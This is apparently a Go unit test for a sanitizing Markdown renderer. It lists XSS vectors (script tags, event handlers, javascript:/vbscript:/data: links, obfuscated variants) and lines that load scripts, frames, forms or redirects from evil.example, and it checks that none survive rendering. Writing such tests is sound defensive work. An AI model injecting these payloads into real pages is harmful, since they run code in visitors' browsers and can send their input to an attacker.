package handlers

import (
	"regexp"
	"strings"
	"testing"
)

// badURL is an address attribute with a scheme that runs code; the same
// words as text are harmless.
var badURL = regexp.MustCompile(`(?i)(href|src|action)\s*=\s*["']?\s*(javascript|vbscript|data):`)

// TestNewsMarkdownKeepsFormattingAndDropsWhatCouldRun renders hostile
// Markdown, each vector on its own, and checks that nothing that could run
// or restyle the page survives, while ordinary Markdown still renders.
func TestNewsMarkdownKeepsFormattingAndDropsWhatCouldRun(t *testing.T) {
	md := newMarkdown()
	hostile := []string{
		"<script>alert(1)</script>",
		"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
		"<img src=x onerror=alert(1)>",
		"<svg onload=alert(1)>",
		"<iframe src=https://evil.example></iframe>",
		"<a href=\"javascript:alert(1)\">x</a>",
		"[x](javascript:alert(1))",
		"[x](JaVaScRiPt:alert(1))",
		"[x](jav&#x09;ascript:alert(1))",
		"[x](vbscript:msgbox(1))",
		"[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
		"<javascript:alert(1)>",
		"![x](javascript:alert(1))",
		"[x][r]\n\n[r]: javascript:alert(1)",
		"<p style=\"position:fixed;top:0\">cover</p>",
		"<form action=https://evil.example><input name=p></form>",
		"<object data=x></object><embed src=x>",
		"<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
	}
	for _, src := range hostile {
		out := strings.ToLower(string(md.HTML(src)))
		for _, bad := range []string{"<script", "onerror", "onload", "<iframe", "<svg", "style=", "<form", "<input", "<object", "<embed", "<meta"} {
			if strings.Contains(out, bad) {
				t.Errorf("%q renders %q, which holds %q", src, out, bad)
			}
		}
		if badURL.MatchString(out) {
			t.Errorf("%q renders %q, a link that runs code", src, out)
		}
	}
	got := string(md.HTML("# Hubs\n\n**Bold**, *em*, ~~gone~~, `code`\n\n- one\n- two\n\n| a |\n|---|\n| 1 |\n\n[site](https://example.com) https://example.org"))
	for _, want := range []string{"<h1", "<strong>Bold</strong>", "<em>em</em>", "<del>gone</del>", "<code>code</code>", "<li>one</li>",
		"<td>1</td>", `href="https://example.com"`, `href="https://example.org"`, `rel="nofollow"`} {
		if !strings.Contains(got, want) {
			t.Errorf("ordinary Markdown renders %q, missing %q", got, want)
		}
	}
}
